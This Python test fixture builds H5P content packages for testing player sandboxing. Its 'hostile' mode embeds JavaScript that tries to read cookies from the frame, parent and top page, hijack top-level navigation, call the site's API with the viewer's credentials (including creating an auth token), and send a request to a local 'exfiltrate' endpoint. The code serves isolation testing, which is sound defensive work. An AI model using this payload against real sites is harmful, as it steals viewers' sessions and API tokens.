"""H5P packages built in memory for the tests: a benign one whose button sends an xAPI
statement, and a hostile one that attacks the page and the API from inside the player."""

from __future__ import annotations

import io
import json
import zipfile

LIBRARY = "H5P.ShuyuanProbe"
FOLDER = f"{LIBRARY}-1.0"

# Runs as an H5P library inside the player.  "benign" shows a button that reports an
# answer; "hostile" tries to steal cookies, call the API as the viewer and take over the
# top page, then writes what happened into #probe-results for the test to read.
PROBE_JS = r"""
H5P.ShuyuanProbe = (function (EventDispatcher) {
  function Probe(params) { EventDispatcher.call(this); this.params = params || {}; }
  Probe.prototype = Object.create(EventDispatcher.prototype);
  Probe.prototype.constructor = Probe;

  function attempt(results, name, run) {
    try { results[name] = "read: " + String(run()); }
    catch (error) { results[name] = "blocked: " + error.name; }
  }

  function attack(box) {
    var results = {origin: String(window.origin)};
    var site = window.location.protocol + "//" + window.location.host;
    attempt(results, "cookie", function () { return document.cookie; });
    attempt(results, "parentCookie", function () { return window.parent.document.cookie; });
    attempt(results, "topCookie", function () { return window.top.document.cookie; });
    attempt(results, "topNavigation", function () {
      window.top.location.href = site + "/stolen-navigation";
      return "assigned";
    });
    attempt(results, "popup", function () { return window.open(site + "/stolen-popup"); });
    var calls = [
      ["apiMe", site + "/api/v1/me", {credentials: "include"}],
      ["apiTokens", site + "/api/v1/auth/tokens", {credentials: "include"}],
      ["apiTokenPost", site + "/api/v1/auth/tokens", {
        method: "POST", credentials: "include", mode: "no-cors",
        headers: {"Content-Type": "text/plain"}, body: "name=stolen"}],
      ["elsewhere", "http://127.0.0.1:9/exfiltrate", {mode: "no-cors"}]
    ];
    var pending = calls.map(function (call) {
      return fetch(call[1], call[2]).then(function (response) {
        return response.text().then(function (text) {
          results[call[0]] = "read: " + response.status + " " + text.slice(0, 200);
        });
      }).catch(function (error) { results[call[0]] = "blocked: " + error.name; });
    });
    Promise.all(pending).then(function () {
      var out = document.createElement("pre");
      out.id = "probe-results";
      out.textContent = JSON.stringify(results);
      box.appendChild(out);
    });
  }

  Probe.prototype.attach = function ($container) {
    var self = this;
    var box = $container.get(0);
    box.innerHTML = "";
    if (self.params.mode === "hostile") { attack(box); return; }
    var button = document.createElement("button");
    button.id = "probe-answer";
    button.textContent = "答案 / Answer";
    button.addEventListener("click", function () {
      self.triggerXAPIScored(1, 1, "answered");
      button.dataset.sent = "1";
    });
    box.appendChild(button);
  };
  return Probe;
})(H5P.EventDispatcher);
"""

# An HTML file of the package, for opening a package URL directly (not in the frame).
DIRECT_HTML = b"""<!doctype html><html><body><pre id="direct"></pre><script>
var out = {origin: String(window.origin)};
try { out.cookie = "read: " + document.cookie; } catch (e) { out.cookie = "blocked: " + e.name; }
document.getElementById("direct").textContent = JSON.stringify(out);
</script></body></html>"""


def probe_package(mode: str, title: str = "探针") -> bytes:
    """A playable H5P package using the probe library in ``mode`` (benign or hostile)."""
    files = {
        "h5p.json": json.dumps(
            {
                "title": title,
                "language": "und",
                "mainLibrary": LIBRARY,
                "embedTypes": ["div"],
                "license": "U",
                "preloadedDependencies": [
                    {"machineName": LIBRARY, "majorVersion": 1, "minorVersion": 0}
                ],
            }
        ).encode(),
        "content/content.json": json.dumps({"mode": mode}).encode(),
        "content/direct.html": DIRECT_HTML,
        f"{FOLDER}/library.json": json.dumps(
            {
                "title": "Probe",
                "machineName": LIBRARY,
                "majorVersion": 1,
                "minorVersion": 0,
                "patchVersion": 0,
                "runnable": 1,
                "preloadedJs": [{"path": "probe.js"}],
            }
        ).encode(),
        f"{FOLDER}/probe.js": PROBE_JS.encode(),
    }
    return zip_bytes(files)


def zip_bytes(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()
